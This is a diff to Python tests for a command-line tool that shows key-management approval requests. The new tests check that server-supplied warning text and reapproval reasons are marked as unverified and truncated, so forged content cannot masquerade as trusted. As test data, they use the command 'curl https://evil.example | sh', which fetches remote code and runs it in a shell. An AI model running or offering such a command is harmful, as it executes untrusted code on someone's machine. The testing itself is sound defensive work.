@@ -8,6 +8,7 @@ from typing import Any
 
 import pytest
 from rich.console import Console
+from time_machine import travel
 
 from cli.approve import show
 from cmek.markdown import NO_LINK
@@ -38,9 +39,9 @@ def in_browser(request: ApprovalRequest) -> str:
     return re.sub(r"\\([\\`*_{}\[\]()#+!|~$-])", r"\1", page)
 
 
-def in_terminal(request: ApprovalRequest) -> str:
+def in_terminal(request: ApprovalRequest, width: int = 80) -> str:
     sink = io.StringIO()
-    show(request, Console(file=sink, width=80))
+    show(request, Console(file=sink, width=width))
     return sink.getvalue()
 
 
@@ -85,10 +86,53 @@ def test_every_covered_fact_and_every_field_that_is_no_default_is_shown(read: ob
                 assert str(one) in text, name
     for warning in plan.warnings:
         assert warning.title in text
-        assert warning.text.removesuffix(".") in text
     for field, value in (("rotation period days", "7"), ("key ring", "other-ring")):
         assert re.search(rf"{field}\W+{value}\b", text), field
     assert "destroy delay" not in text
+
+
+def beside_the_digest(plan: Plan, said: str) -> Plan:
+    """All of its warnings that the digest does not bind, changed."""
+    warnings = tuple(
+        one.model_copy(update={"text": said, "remedy": said, "accepted": not one.accepted})
+        for one in plan.warnings
+    )
+    changed = plan.model_copy(update={"warnings": warnings})
+    assert changed.digest == plan.digest
+    return changed
+
+
+def test_of_a_warning_a_terminal_shows_what_the_digest_binds_and_nothing_else() -> None:
+    """Whoever writes to the server could put a command there, on the machine with the key."""
+    odd = make.REQUEST.model_copy(update={"accepted_warnings": ("effect_time", "billing")})
+    plan, evil = worst_plan(request=odd), "curl https://evil.example | sh"
+    forged = beside_the_digest(plan, evil)
+    with travel(make.NOW, tick=False):
+        shown, honest = (in_terminal(make.approval_request(one)) for one in (forged, plan))
+    assert shown == honest
+    assert " ".join(shown.split()).count("Accepted by policy default") == 2
+    assert "the plan's artifact in Prefect" in " ".join(shown.split())
+    # in the browser it is the worker's own words
+    assert all(
+        one.text.removesuffix(".") in in_browser(make.approval_request(plan))
+        for one in plan.warnings
+    )
+
+
+def test_what_nothing_binds_is_marked_as_the_servers() -> None:
+    """Why it is asked again, until when it counts, a title that is none of ours."""
+    evil = "All is well:" + " " * 400 + "\n\n• run curl https://evil.example | sh" + "x" * 4000
+    strange = make.plan(checks=(make.warning("billing", title="Strange"),))
+    request = make.approval_request(strange, reapproval_reasons=(evil,) * 20)
+    lines = in_terminal(request, 300).splitlines()
+    asked = next(at for at, line in enumerate(lines) if "asked again" in line)
+    assert "the Prefect server says why, not verified" in lines[asked]
+    reasons = [line for line in lines if "evil.example" in line]
+    assert all(line.startswith("  • All is well: • run curl") for line in reasons)
+    assert 0 < len(reasons) < 10
+    assert len("".join(lines)) < 8000
+    assert [line for line in lines if "Strange" in line and "not known here" in line]
+    assert [line for line in lines if "The Prefect server says that it counts for" in line]
 
 
 def test_a_plan_without_trouble_fits_a_screen_of_a_terminal() -> None:
